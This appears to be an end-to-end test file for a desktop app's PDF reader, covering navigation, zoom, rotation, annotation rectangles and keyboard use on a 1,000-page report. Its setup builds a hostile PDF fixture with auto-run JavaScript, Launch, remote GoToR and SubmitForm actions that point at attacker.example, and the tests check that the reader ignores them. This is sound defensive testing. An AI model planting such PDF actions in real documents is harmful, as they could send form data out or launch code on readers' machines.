/** Reading a long PDF: how it is looked at, going about in it, rectangles; with the mouse and with keys alone. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame, Locator } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { reportPdf } from '../unit/importing/report-pdf.ts';
import { type AppUnderTest, picture, scratchFolder, startApp } from './app-under-test.ts';
import { dossierJson } from './command-line.ts';
import { Hands } from './hands.ts';

interface Mark {
  readonly quote: string;
  readonly page: number | null;
  readonly region: { readonly page: number; readonly rect: readonly number[] } | null;
}

const scratch = scratchFolder();
const home = join(scratch.path, 'home');
const archive = join(scratch.path, 'Reports');
const title = 'The long report';
const pages = 1_000;
const requests: string[] = [];
let article = '';
let app: AppUnderTest;
let hands: Hands;
let frame: Frame;

beforeAll(async () => {
  const path = join(scratch.path, 'report.pdf');
  // All that a PDF can ask a reader to do when it is opened: none of it is done.
  const hostile = `/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://attacker.example/script'\\)) >>
    /AA << /WC << /S /Launch /F (/bin/true) >> >>`;
  const links = [
    '/S /Launch /F (/bin/true)',
    '/S /GoToR /F (https://attacker.example/remote.pdf) /D [0 /Fit]',
    "/S /JavaScript /JS (app.launchURL\\('https://attacker.example/pressed'\\))",
    '/S /SubmitForm /F (https://attacker.example/form)',
  ].map(
    (action, at) =>
      `<< /Type /Annot /Subtype /Link /Rect [${72 + at * 60} 30 ${120 + at * 60} 50] /A << ${action} >> >>`,
  );
  // Longer than is asked for at first: the rest is read where it is needed.
  const padding = 6_000_000;
  writeFileSync(path, reportPdf(pages, { catalog: hostile, annotations: links.join(' '), padding }));
  await dossierJson(home, ['new', archive]);
  const { imported } = await dossierJson<{ imported: { id: string }[] }>(home, ['import', archive, path]);
  article = imported[0]?.id ?? '';
  app = await startApp(home);
  app.window.on('request', (request) => requests.push(request.url()));
  hands = new Hands(app);
  await hands.openArchive(archive);
  app.window.setDefaultTimeout(10_000);
  frame = await hands.openArticle(title);
}, 120_000);

afterAll(async () => {
  await app?.close();
  scratch.remove();
});

const bar = (): Locator => hands.window.getByRole('toolbar', { name: 'PDF' });
const pageField = (): Locator => bar().getByRole('textbox', { name: 'Page' });
const size = async (): Promise<number> =>
  Number.parseInt((await bar().getByRole('button', { name: /^Size/ }).textContent()) ?? '', 10);
const marks = async (): Promise<readonly Mark[]> =>
  (await dossierJson<{ annotations: Mark[] }>(home, ['show', archive, article])).annotations;
const drawnPages = (): Promise<number> =>
  frame.evaluate(() => document.querySelectorAll('.sheet canvas').length);
const topOf = (page: number): Promise<number> =>
  frame.evaluate(
    (at) => document.querySelectorAll('.sheet')[at]?.getBoundingClientRect().top ?? -9999,
    page - 1,
  );

async function goTo(page: string): Promise<void> {
  await pageField().fill(page);
  await pageField().press('Enter');
}

/** Takes what the palette offers first for these words. */
async function byPalette(words: string): Promise<void> {
  const dialog = hands.window.getByRole('dialog');
  await hands.press('Control+k');
  await expect.poll(() => dialog.locator(':focus').count()).toBeGreaterThan(0);
  await hands.window.keyboard.type(words);
  await hands.window.waitForTimeout(400);
  await hands.press('Enter');
  await dialog.waitFor({ state: 'hidden' });
}

/** Gives the article the focus, by a click beside its pages. */
async function intoPages(): Promise<void> {
  const box = await (await frame.frameElement()).boundingBox();
  await hands.window.mouse.click((box?.x ?? 0) + 5, (box?.y ?? 0) + 200);
}

test('a file of a thousand pages is open with a few of them drawn', async () => {
  await expect.poll(() => pageField().inputValue()).toBe('i');
  await bar().getByText(`1 of ${pages}`).waitFor();
  await expect.poll(() => frame.locator('.sheet').count()).toBe(pages);
  expect(await drawnPages()).toBeLessThan(12);
  await picture(hands.window, 'pdf-reading-light');
});

test('one goes to a page by its label or its number, and is told of one that is not there', async () => {
  await goTo('iv');
  await bar().getByText(`4 of ${pages}`).waitFor();
  await goTo('500');
  await bar().getByText(`504 of ${pages}`).waitFor();
  await expect.poll(() => topOf(504)).toBeGreaterThan(-30);
  await frame.getByText('Leaf 504 of the report').waitFor();
  await goTo('xl');
  await hands.window.getByText('There is no page “xl”').waitFor();
  expect(await drawnPages()).toBeLessThan(20);
  await goTo('i');
  await bar().getByText(`1 of ${pages}`).waitFor();
});

test('the pages are made larger and smaller by keys, wheel and menu, and the place stays', async () => {
  await intoPages();
  const before = await size();
  await hands.press('Control+=');
  await expect.poll(size).toBeGreaterThan(before);
  await hands.press('Control+0');
  await expect.poll(size).toBe(100);
  await bar().getByRole('button', { name: /^Size/ }).click();
  await hands.window.getByRole('menuitemradio', { name: 'Fit page' }).click();
  await expect.poll(size).toBeLessThan(100);
  await frame.locator('.sheet').first().hover();
  await hands.window.keyboard.down('Control');
  for (let notch = 0; notch < 6; notch++) await hands.window.mouse.wheel(0, -120);
  await hands.window.keyboard.up('Control');
  await expect.poll(size).toBeGreaterThan(110);
  await picture(hands.window, 'pdf-reading-large');
  await hands.press('Control+8');
  await goTo('3');
  await bar().getByText(`7 of ${pages}`).waitFor();
  await hands.press('Control+-', 'Control+-');
  await expect.poll(() => pageField().inputValue()).toBe('3');
});

test('one page at a time, turned by keys; turned round for the eye', async () => {
  await bar().getByRole('button', { name: 'Show one page at a time' }).click();
  const shown = () => frame.evaluate(() => document.querySelectorAll('.sheet:not([hidden])').length);
  await expect.poll(shown).toBe(1);
  await intoPages();
  await hands.press('ArrowRight', 'ArrowRight');
  await expect.poll(() => pageField().inputValue()).toBe('5');
  await hands.press('ArrowLeft');
  await expect.poll(() => pageField().inputValue()).toBe('4');
  await frame.getByText('Leaf 8 of the report').waitFor();
  await bar().getByRole('button', { name: 'Turn the pages' }).click();
  const wide = () =>
    frame.evaluate(() => {
      const sheet = document.querySelector<HTMLElement>('.sheet:not([hidden])');
      return sheet !== null && sheet.offsetWidth > sheet.offsetHeight;
    });
  await expect.poll(wide).toBe(true);
  await frame.locator('.sheet:not([hidden]) canvas').waitFor();
  await picture(hands.window, 'pdf-reading-turned');
});

test('all that is there again when the article is opened anew', async () => {
  await hands.window.waitForTimeout(800);
  await hands.goTo('People');
  await hands.goTo('Library');
  frame = await hands.openArticle(title);
  await bar().getByRole('button', { name: 'Show pages one below the other' }).waitFor();
  await expect
    .poll(() =>
      frame.evaluate(() => document.querySelector('.text-layer')?.getAttribute('data-main-rotation')),
    )
    .toBe('90');
  for (let turns = 0; turns < 3; turns++) await bar().getByRole('button', { name: 'Turn the pages' }).click();
  await bar().getByRole('button', { name: 'Show pages one below the other' }).click();
  await bar().getByRole('button', { name: /^Size/ }).click();
  await hands.window.getByRole('menuitemradio', { name: 'Comfortable' }).click();
});

test('small pictures and contents stand beside the pages', async () => {
  await goTo('i');
  await intoPages();
  await hands.press('o');
  const side = frame.getByRole('navigation', { name: 'Pages and contents' });
  await side.locator('canvas').nth(3).waitFor();
  await picture(hands.window, 'pdf-reading-thumbnails');
  await side.getByRole('button', { name: 'Page iii', exact: true }).click();
  await expect.poll(() => pageField().inputValue()).toBe('iii');
  await side.getByRole('button', { name: 'Contents' }).click();
  const middle = side.getByRole('button', { name: 'The middle of the report' });
  await middle.press('Enter');
  await bar().getByText(`501 of ${pages}`).waitFor();
  await picture(hands.window, 'pdf-reading-contents');
  await bar().getByRole('button', { name: 'Pages and contents' }).click();
  await side.waitFor({ state: 'detached' });
});

test('a link inside is followed; one that leads out is told and not opened', async () => {
  await goTo('i');
  const outside = frame.getByRole('link', { name: 'https://attacker.example/away' });
  await outside.focus();
  await frame.getByText('links out of the document are not opened').waitFor();
  await hands.press('Enter');
  const box = await outside.boundingBox();
  await hands.window.mouse.click((box?.x ?? 0) + 10, (box?.y ?? 0) + 5);
  const first = await frame.locator('.sheet').first().boundingBox();
  if (!first) throw new Error('the page is not drawn');
  for (let at = 0; at < 4; at++) {
    const scale = first.width / 595;
    await hands.window.mouse.click(first.x + (90 + at * 60) * scale, first.y + (842 - 40) * scale);
  }
  expect(app.app.windows().length).toBe(1);
  const inside = frame.getByRole('link', { name: 'Link within this document' });
  const at = await inside.boundingBox();
  await hands.window.mouse.click((at?.x ?? 0) + 10, (at?.y ?? 0) + 5);
  await bar().getByText(`${pages} of ${pages}`).waitFor();
  expect(requests.filter((url) => url.includes('attacker'))).toEqual([]);
});

test('words are selected down a column, and no further where the pointer rests in a gap', async () => {
  await goTo('2');
  const from = 'Line 2 in the left column of leaf 6';
  await hands.selectWords(`${from} stands here.`);
  const line = await frame.getByText(`${from} stands here.`).boundingBox();
  const next = await frame.getByText('Line 5 in the left column of leaf 6 stands here.').boundingBox();
  if (!line || !next) throw new Error('the lines are not drawn');
  const { mouse } = hands.window;
  await mouse.move(line.x + 2, line.y + line.height / 2);
  await mouse.down();
  await mouse.move(line.x + 40, next.y + next.height / 2, { steps: 8 });
  // Between the columns, where there are no words.
  await mouse.move(line.x + line.width + 12, next.y + next.height / 2, { steps: 6 });
  const selected = await frame.evaluate(() => String(document.getSelection()).replace(/\s+/g, ' '));
  await mouse.up();
  expect(selected).toContain('Line 2 in the left');
  expect(selected).toContain('Line 5 in the left column of leaf 6 stands here.');
  expect(selected).not.toContain('Line 7 in the left');
  expect(selected).not.toContain('right column');
  await hands.press('Escape');
});

test('a rectangle is drawn round a figure, shown beside the page, taken back and kept', async () => {
  await goTo('2');
  await expect.poll(() => topOf(6)).toBeLessThan(60);
  // The figure stands at the foot of the page, which the window may cut.
  await frame.evaluate(() => scrollBy({ top: 160, behavior: 'instant' }));
  const { mouse } = hands.window;
  const sheet = frame.locator('.sheet').nth(5);
  const caption = await frame.getByText('Figure 6: bars that were counted').boundingBox();
  const box = await sheet.boundingBox();
  if (!caption || !box) throw new Error('the page is not drawn');
  await bar().getByRole('button', { name: 'Mark a rectangle' }).click();
  await frame.getByText('Draw a rectangle, or press an arrow key').waitFor();
  const scale = box.width / 595;
  await mouse.move(box.x + 80 * scale, box.y + (842 - 290) * scale);
  await mouse.down();
  await mouse.move(box.x + 300 * scale, box.y + (842 - 200) * scale, { steps: 5 });
  await picture(hands.window, 'pdf-reading-drawing');
  await mouse.move(box.x + 500 * scale, box.y + (842 - 104) * scale, { steps: 5 });
  await mouse.up();
  const words = 'Figure 6: bars that were counted';
  await hands.savedCard(words);
  const [mark] = await marks();
  expect(mark).toMatchObject({ quote: words, page: 6, region: { page: 6 } });
  const [left = 0, bottom = 0, right = 0, top = 0] = mark?.region?.rect ?? [];
  for (const [got, meant] of [
    [left, 80],
    [bottom, 104],
    [right, 500],
    [top, 290],
  ] as const)
    expect(Math.abs(got - meant)).toBeLessThan(3);
  await picture(hands.window, 'pdf-reading-rectangle');

  // Pressed like any mark, in whatever colour.
  await hands.press('Escape');
  await mouse.click(box.x + 200 * scale, box.y + (842 - 250) * scale);
  await hands.markTools.waitFor();
  await hands.press('3');
  await frame.locator('.region[data-mark="contradicts"]').waitFor();
  await hands.press('u');
  await frame.locator('.region[data-mark="key"]').waitFor();
});

test('a rectangle is made, found and deleted by keys alone', async () => {
  await goTo('7');
  await frame.getByText('Leaf 11 of the report').waitFor();
  await intoPages();
  await hands.press('r');
  await frame.getByText('Draw a rectangle, or press an arrow key').waitFor();
  await hands.press('ArrowDown', 'ArrowDown', 'Shift+ArrowRight', 'ArrowLeft');
  await frame.locator('.region-draft').waitFor();
  await picture(hands.window, 'pdf-reading-keys');
  await hands.press('Enter');
  await expect.poll(async () => (await marks()).length, { timeout: 10_000 }).toBe(2);
  expect((await marks())[1]?.region?.page).toBe(11);
  const region = frame.locator('.sheet').nth(10).locator('.region');
  await region.focus();
  await hands.press('Enter');
  await hands.markTools.waitFor();
  await hands.press('Delete');
  await expect.poll(async () => (await marks()).length, { timeout: 10_000 }).toBe(1);
  // From its card in the margin, a thousand pages away or a few.
  await goTo('900');
  await hands.press('Escape');
  await hands.press('j');
  await expect.poll(() => pageField().inputValue()).toBe('2');
  await frame.locator('.region[data-active]').waitFor();
});

test('all of it by keys alone', async () => {
  const { window } = hands;
  const shownSheets = () => frame.evaluate(() => document.querySelectorAll('.sheet:not([hidden])').length);
  const focused = () => frame.evaluate(() => document.activeElement?.textContent ?? '');
  // From another room, by the palette.
  await hands.press('Escape', 'Escape');
  await byPalette('People');
  await window.getByRole('heading', { name: 'People' }).waitFor();
  await byPalette(title);
  await bar().waitFor();
  frame = await hands.page();
  await frame.locator('.sheet canvas').first().waitFor();

  // Pages by label and number; sizes.
  await hands.press('g');
  await window.keyboard.type('iii');
  await hands.press('Enter');
  await bar().getByText(`3 of ${pages}`).waitFor();
  await hands.press('Control+0');
  await expect.poll(size).toBe(100);
  await hands.press('Control+=');
  await expect.poll(size).toBe(110);
  await hands.press('Control+9');
  await expect.poll(size).toBeLessThan(100);
  const whole = await size();
  await hands.press('Control+8');
  await expect.poll(size).toBeGreaterThan(whole);

  // One page at a time, on and back, and turned.
  await hands.press('v');
  await expect.poll(shownSheets).toBe(1);
  await hands.press('Control+9', 'PageDown');
  await expect.poll(() => pageField().inputValue()).toBe('iv');
  await hands.press('ArrowLeft', 'w');
  await expect.poll(() => pageField().inputValue()).toBe('iii');
  const turned = () =>
    frame.evaluate(() =>
      document.querySelector('.sheet:not([hidden]) .text-layer')?.getAttribute('data-main-rotation'),
    );
  await expect.poll(turned).toBe('90');
  await hands.press('w', 'w', 'w');
  await expect.poll(turned).toBe('0');
  await hands.press('v');
  await expect.poll(shownSheets).toBe(pages);

  // Small pictures and contents.
  await hands.press('o');
  await expect.poll(focused).toBe('iii');
  await hands.press('ArrowDown', 'ArrowDown', 'Enter');
  await bar().getByText(`5 of ${pages}`).waitFor();
  await hands.press('Shift+Tab');
  await expect.poll(focused).toBe('Contents');
  await hands.press('Enter');
  await expect.poll(focused).toBe('The beginning');
  await picture(window, 'pdf-reading-contents-keys');
  await hands.press('ArrowDown', 'Enter');
  await bar().getByText(`501 of ${pages}`).waitFor();
  await hands.press('o');
  await frame.getByRole('navigation').waitFor({ state: 'detached' });

  // What is looked for is found far off, and marked.
  await hands.press('Control+f');
  await window.getByRole('textbox', { name: 'Find in the article' }).waitFor();
  await window.keyboard.type('Leaf 700 of the report');
  await hands.press('Enter');
  await bar().getByText(`700 of ${pages}`).waitFor();
  await hands.press('Escape', '5');
  await hands.savedCard('Leaf 700 of the report');
  expect((await marks()).find(({ page }) => page === 700)?.quote).toBe('Leaf 700 of the report');
  expect(app.complaints).toEqual([]);
});

test('in the dark and in a narrow window', async () => {
  await hands.window.emulateMedia({ colorScheme: 'dark' });
  await hands.window.waitForTimeout(400);
  await picture(hands.window, 'pdf-reading-dark');
  await hands.resize(900, 700);
  await hands.press('o');
  await hands.window.waitForTimeout(700);
  await picture(hands.window, 'pdf-reading-narrow');
  await expect.poll(() => hands.scrollsSideways()).toBe(false);
  expect(app.complaints).toEqual([]);
  expect(requests.filter((url) => url.includes('attacker'))).toEqual([]);
});

test('the command line marks a rectangle, too', async () => {
  const mark = await dossierJson<Mark>(home, [
    ...['annotate', archive, article, '--page', '3', '--region', '60,100,500,300', '--color', 'question'],
  ]);
  expect(mark).toMatchObject({ page: 3, region: { page: 3, rect: [60, 100, 500, 300] } });
  expect(mark.quote).toContain('Figure 3');
});
